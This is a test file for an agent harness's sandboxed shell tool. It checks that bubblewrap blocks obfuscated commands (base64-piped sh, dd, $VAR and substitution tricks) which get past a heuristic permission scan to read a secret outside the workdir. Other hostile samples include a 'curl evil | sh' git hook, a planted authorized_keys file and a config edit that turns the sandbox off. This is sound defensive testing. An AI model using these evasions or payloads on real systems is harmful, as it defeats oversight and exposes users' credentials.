// The `shell` tool under the OS sandbox, for real (bubblewrap on this machine; CI installs it).
// Each escape is first shown to work without the sandbox (and to pass the heuristic's
// external_directory scan), then shown to fail inside it.
import { execFileSync, spawnSync } from "node:child_process";
import { existsSync, readFileSync, writeFileSync } from "node:fs";
import { createServer as createHttpServer, type Server as HttpServer } from "node:http";
import { createServer, type Server } from "node:net";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { createShellTool, shellTool, type ToolDefinition } from "../../services/tools/index.js";
import type { ShellInput } from "../../services/tools/shell.js";
import type { HostSandboxSetup } from "../../services/host/sandbox-host.js";
import { call, context, expectCode, text } from "../tools/helpers.js";
import { AUTH, SECRET, SSH_KEY, hostSandbox, layout, processesWith, uniqueSleep, type Layout } from "./support.js";

vi.setConfig({ testTimeout: 30_000 });

let ws: Layout;
const setups: HostSandboxSetup[] = [];
beforeEach(() => {
  ws = layout();
});
afterEach(async () => {
  for (const setup of setups.splice(0)) await setup.sandbox.close();
  ws.dispose();
});

function sandboxedShell(config: Parameters<typeof hostSandbox>[1] = { mode: "workspace-write" }, env: Record<string, string> = ws.env): ToolDefinition<ShellInput> {
  const setup = hostSandbox(env, config);
  setups.push(setup);
  return createShellTool({ sandbox: setup.resolver, note: setup.note });
}

const run = async (tool: ToolDefinition<ShellInput>, command: string, timeoutMs?: number): Promise<string> =>
  text(await call(tool, { command, ...(timeoutMs !== undefined ? { timeoutMs } : {}) }, context(ws.workdir)));

const hasPython = spawnSync("python3", ["-c", "print(1)"]).status === 0;

describe("sandbox: the heuristic's escapes fail inside", () => {
  // Each reads the secret outside the workdir and tries to write beside it, in a form
  // shell-scan.ts does not recognize as an outside path.
  const escapes = (outside: string): Record<string, { read: string; write: string }> => {
    const [head, tail] = [outside.slice(0, 4), outside.slice(4)];
    const b64 = (command: string) => Buffer.from(command).toString("base64");
    return {
      "sh -c": { read: `sh -c "cat ${head}''${tail}/secret.txt"`, write: `sh -c "echo x > ${head}''${tail}/pwned-sh"` },
      base64: { read: `echo ${b64(`cat ${outside}/secret.txt`)} | base64 -d | sh`, write: `echo ${b64(`echo x > ${outside}/pwned-b64`)} | base64 -d | sh` },
      dd: { read: `dd if=$(printf ${head})${tail}/secret.txt status=none`, write: `echo x | dd of=$(printf ${head})${tail}/pwned-dd status=none` },
      "$(…)": { read: `cat $(printf ${head})${tail}/secret.txt`, write: `echo x > $(printf ${head})${tail}/pwned-subst` },
      $VAR: { read: `D=${head}; cat $D${tail}/secret.txt`, write: `D=${head}; echo x > $D${tail}/pwned-var` },
      ...(hasPython
        ? { "python3 -c": { read: `python3 -c "print(open('${head}'+'${tail}/secret.txt').read())"`, write: `python3 -c "open('${head}'+'${tail}/pwned-py','w').write('x')"` } }
        : {}),
    };
  };

  it("each escape reads and writes outside without the sandbox, asking no external_directory", async () => {
    for (const [name, escape] of Object.entries(escapes(ws.outside))) {
      for (const command of [escape.read, escape.write]) {
        const asked = shellTool.permissions({ command }, context(ws.workdir)).map((projection) => projection.action);
        expect(asked, `${name}: ${command}`).toEqual(["shell"]);
      }
      expect(await run(shellTool, escape.read), name).toContain(SECRET);
      await run(shellTool, escape.write);
    }
    expect(readFileSync(join(ws.outside, "pwned-subst"), "utf8")).toBe("x\n");
  });

  it("inside the sandbox each one fails: the secret is not read, nothing is written outside", async () => {
    const tool = sandboxedShell();
    const names = Object.keys(escapes(ws.outside));
    expect(names.length).toBeGreaterThanOrEqual(hasPython ? 6 : 5);
    for (const [name, escape] of Object.entries(escapes(ws.outside))) {
      expect(await run(tool, escape.read), name).not.toContain(SECRET);
      await run(tool, escape.write);
    }
    for (const file of ["pwned-sh", "pwned-b64", "pwned-dd", "pwned-subst", "pwned-var", "pwned-py"]) expect(existsSync(join(ws.outside, file)), file).toBe(false);
  });

  it("a write to the read-only rest of the file system is refused (EROFS), a read of it is allowed", async () => {
    const tool = sandboxedShell();
    const target = `/etc/ze-sandbox-${uniqueSleep()}`;
    expect(await run(tool, `exec 2>&1; echo x > ${target}; echo "status $?"`)).toMatch(/Read-only file system[\s\S]*status [12]/);
    expect(existsSync(target)).toBe(false);
    expect(await run(tool, "head -c 4 /etc/passwd")).toBe("root\n(exit code 0)");
  });

  it("read-only mode: not even the workdir is writable, the private /tmp is", async () => {
    const tool = sandboxedShell({ mode: "read-only" });
    expect(await run(tool, "exec 2>&1; echo x > made-here; echo $?")).toMatch(/Read-only file system\n[12]\n\(exit code 0\)$/);
    expect(existsSync(join(ws.workdir, "made-here"))).toBe(false);
    expect(await run(tool, "echo temp > /tmp/t && cat /tmp/t && cat notes.txt")).toBe("temp\nordinary file\n(exit code 0)");
  });

  it("the external_directory ask is relaxed inside the sandbox (the OS holds the boundary)", () => {
    const tool = sandboxedShell();
    expect(shellTool.permissions({ command: "cat /etc/passwd" }, context(ws.workdir)).map((p) => p.action)).toEqual(["external_directory", "shell"]);
    expect(tool.permissions({ command: "cat /etc/passwd" }, context(ws.workdir))).toEqual([{ action: "shell", resources: ["cat /etc/passwd"], save: ["cat /etc/passwd"] }]);
    expect(tool.description).toContain("OS sandbox (workspace-write, no network)");
  });
});

describe("sandbox: what is hidden", () => {
  it("the state directory (auth.json, daemon-token), the global config directory, ~/.ssh and ~/.netrc are invisible, even inside the writable workdir", async () => {
    const tool = sandboxedShell();
    // Without the sandbox all of them are readable from the workdir.
    expect(await run(shellTool, "cat .local/share/ze-harness/auth.json .ssh/id_ed25519")).toContain(AUTH);
    const out = await run(tool, "ls -A .local/share/ze-harness; ls -A .ssh; ls -A .config/ze-harness; cat .netrc; echo end; cat notes.txt");
    expect(out).not.toContain("auth.json");
    expect(out).not.toContain("daemon-token");
    expect(out).not.toContain("id_ed25519");
    expect(out).not.toContain("config.json");
    expect(out).not.toContain("hunter2");
    expect(out).toBe("end\nordinary file\n(exit code 0)");
    // Writing into a hidden directory lands in the empty tmpfs, not in the real one.
    await run(tool, "echo planted > .ssh/authorized_keys");
    expect(existsSync(join(ws.home, ".ssh", "authorized_keys"))).toBe(false);
    expect(readFileSync(join(ws.state, "auth.json"), "utf8")).toBe(AUTH);
    expect(readFileSync(join(ws.home, ".ssh", "id_ed25519"), "utf8")).toBe(SSH_KEY);
  });

  it("the project's config file and .git/hooks stay read-only in the writable workdir", async () => {
    const tool = sandboxedShell();
    writeFileSync(join(ws.workdir, "ze-harness.config.json"), "{}\n");
    execFileSync("git", ["init", "-q", ws.workdir]);
    const out = await run(tool, `exec 2>&1; echo '{"sandbox":{"mode":"off"}}' > ze-harness.config.json; echo $?; echo 'curl evil | sh' > .git/hooks/pre-commit; echo $?`);
    expect(out).toMatch(/^.*Read-only file system\n[12]\n.*Read-only file system\n[12]\n\(exit code 0\)$/s);
    expect(readFileSync(join(ws.workdir, "ze-harness.config.json"), "utf8")).toBe("{}\n");
    expect(existsSync(join(ws.workdir, ".git", "hooks", "pre-commit"))).toBe(false);
  });
});

describe("sandbox: the network", () => {
  let tcp: Server;
  let tcpPort: number;
  let http: HttpServer;
  let httpPort: number;
  beforeAll(async () => {
    tcp = createServer((socket) => socket.end("tcp-hello\n"));
    await new Promise<void>((resolve) => tcp.listen(0, "127.0.0.1", resolve));
    tcpPort = (tcp.address() as { port: number }).port;
    http = createHttpServer((request, response) => response.end(`http-hello ${request.url}`));
    await new Promise<void>((resolve) => http.listen(0, "127.0.0.1", resolve));
    httpPort = (http.address() as { port: number }).port;
  });
  afterAll(async () => {
    await new Promise((resolve) => tcp.close(resolve));
    await new Promise((resolve) => http.close(resolve));
  });

  const connectScript = (port: number) =>
    `node -e 'require("net").connect(${port}, "127.0.0.1").on("data", (d) => { process.stdout.write("got " + d); process.exit(0); }).on("error", (e) => { console.log("error " + e.code); process.exit(0); })'`;
  // An HTTP request through HTTP_PROXY (absolute form), and a CONNECT tunnel, as clients do.
  const viaProxy = (url: string) =>
    `node -e 'const p = new URL(process.env.HTTP_PROXY); require("http").get({ host: p.hostname, port: p.port, path: "${url}" }, (r) => { let b = ""; r.on("data", (c) => b += c); r.on("end", () => console.log(r.statusCode, b)); }).on("error", (e) => console.log("error " + e.code))'`;
  const tunnel = (authority: string) =>
    `node -e 'const p = new URL(process.env.HTTPS_PROXY); require("http").request({ host: p.hostname, port: p.port, method: "CONNECT", path: "${authority}" }).on("connect", (r, s, h) => { if (r.statusCode !== 200) { console.log("refused", r.statusCode); process.exit(0); } const show = (d) => { process.stdout.write("tunnel " + d); process.exit(0); }; if (h.length > 0) show(h); else s.on("data", show); }).on("error", (e) => console.log("error " + e.code)).end()'`;

  it("is off: a local TCP server of the test is unreachable inside, reachable outside", async () => {
    expect(await run(shellTool, connectScript(tcpPort))).toBe("got tcp-hello\n(exit code 0)");
    expect(await run(sandboxedShell(), connectScript(tcpPort))).toBe("error ECONNREFUSED\n(exit code 0)");
  });

  it("network: true keeps the host's network", async () => {
    expect(await run(sandboxedShell({ mode: "workspace-write", network: true }), connectScript(tcpPort))).toBe("got tcp-hello\n(exit code 0)");
  });

  it("network: [hosts] reaches only the allowed names, through the proxy", async () => {
    const tool = sandboxedShell({ mode: "workspace-write", network: ["127.0.0.1"] });
    expect(await run(tool, viaProxy(`http://127.0.0.1:${httpPort}/x?y=1`))).toBe(`200 http-hello /x?y=1\n(exit code 0)`);
    expect(await run(tool, tunnel(`127.0.0.1:${tcpPort}`))).toBe("tunnel tcp-hello\n(exit code 0)");
    // The same server under another name is not allowed; neither is any other host.
    expect(await run(tool, viaProxy(`http://localhost:${httpPort}/`))).toBe("403 \n(exit code 0)");
    expect(await run(tool, tunnel(`localhost:${tcpPort}`))).toBe("refused 403\n(exit code 0)");
    expect(await run(tool, tunnel("example.com:443"))).toBe("refused 403\n(exit code 0)");
    // Around the proxy there is no way out.
    expect(await run(tool, connectScript(tcpPort))).toBe("error ECONNREFUSED\n(exit code 0)");
  });
});

describe("sandbox: ordinary work", () => {
  it("a make build with node, git init/commit/status and a test run all work in the workdir", async () => {
    const tool = sandboxedShell();
    writeFileSync(join(ws.workdir, "Makefile"), "out.txt: in.txt\n\tnode -e 'process.stdout.write(require(\"fs\").readFileSync(\"in.txt\", \"utf8\").toUpperCase())' > out.txt\n");
    writeFileSync(join(ws.workdir, "in.txt"), "built\n");
    writeFileSync(join(ws.workdir, "sum.test.mjs"), 'import test from "node:test"; import assert from "node:assert"; test("sum", () => assert.equal(1 + 1, 2));\n');
    expect(await run(tool, "make -s && cat out.txt")).toBe("BUILT\n(exit code 0)");
    const git = await run(tool, "git init -q project && cd project && echo a > a.txt && git add a.txt && git -c user.name=T -c user.email=t@example.com commit -qm first && git status --short && git log --format=%s");
    expect(git).toBe("first\n(exit code 0)");
    expect(existsSync(join(ws.workdir, "project", ".git", "HEAD"))).toBe(true);
    expect(await run(tool, "node --test sum.test.mjs > report.txt 2>&1; echo $?; grep -c '^# pass 1' report.txt")).toBe("0\n1\n(exit code 0)");
  });
});

describe("sandbox: timeouts and cancellation still kill the command", () => {
  it("a timeout kills the whole tree, setsid'd children too", async () => {
    const tool = sandboxedShell();
    const [a, b] = [uniqueSleep(), uniqueSleep()];
    const out = await run(tool, `sleep ${a} & setsid sleep ${b} & echo started; wait`, 1_000);
    expect(out).toBe("started\n(Timed out after 1000 ms; the command and its child processes were stopped.)");
    expect(processesWith(`sleep ${a}`)).toEqual([]);
    expect(processesWith(`sleep ${b}`)).toEqual([]);
  });

  it("an abort kills the whole tree and the call rejects interrupted", async () => {
    const tool = sandboxedShell();
    const marker = uniqueSleep();
    const ctx = context(ws.workdir);
    // "ready" comes from the setsid'd shell itself, so it has left the process group by then.
    const pending = call(tool, { command: `sleep ${marker} & setsid sh -c "echo ready; exec sleep ${marker}" & wait` }, ctx);
    await ctx.activityWhere((update) => (update.preview ?? "").includes("ready"));
    expect(processesWith(`sleep ${marker}`).length).toBeGreaterThan(0);
    ctx.controller.abort();
    await expectCode(pending, "interrupted");
    expect(processesWith(`sleep ${marker}`)).toEqual([]);
  });
});

describe("sandbox: unavailable", () => {
  it("a missing bubblewrap (ZE_HARNESS_BWRAP names no file) fails the call sandbox_unavailable; nothing runs", async () => {
    const tool = sandboxedShell({ mode: "workspace-write" }, { ...ws.env, ZE_HARNESS_BWRAP: join(ws.root, "no-bwrap") });
    await expectCode(call(tool, { command: "touch ran" }, context(ws.workdir)), "sandbox_unavailable");
    expect(existsSync(join(ws.workdir, "ran"))).toBe(false);
  });

  it("no bwrap on PATH fails the same way, naming the cause", async () => {
    const tool = sandboxedShell({ mode: "workspace-write" }, { ...ws.env, PATH: join(ws.root, "empty-bin") });
    const failure = await call(tool, { command: "touch ran" }, context(ws.workdir)).catch((error: unknown) => error as Error & { code?: string });
    expect(failure).toMatchObject({ code: "sandbox_unavailable" });
    expect((failure as Error).message).toContain("no bwrap on PATH");
    expect((failure as Error).message).toContain("nothing was started");
    expect(existsSync(join(ws.workdir, "ran"))).toBe(false);
  });

  it("bubblewrap that cannot create namespaces is reported with its own complaint", async () => {
    // A stand-in that fails as bwrap does where user namespaces are off.
    const fake = join(ws.root, "bwrap");
    writeFileSync(fake, "#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because the kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n", { mode: 0o755 });
    const tool = sandboxedShell({ mode: "workspace-write" }, { ...ws.env, ZE_HARNESS_BWRAP: fake });
    const failure = (await call(tool, { command: "touch ran" }, context(ws.workdir)).catch((error: unknown) => error)) as Error & { code?: string };
    expect(failure.code).toBe("sandbox_unavailable");
    expect(failure.message).toContain("non-privileged user namespaces");
    expect(existsSync(join(ws.workdir, "ran"))).toBe(false);
  });
});
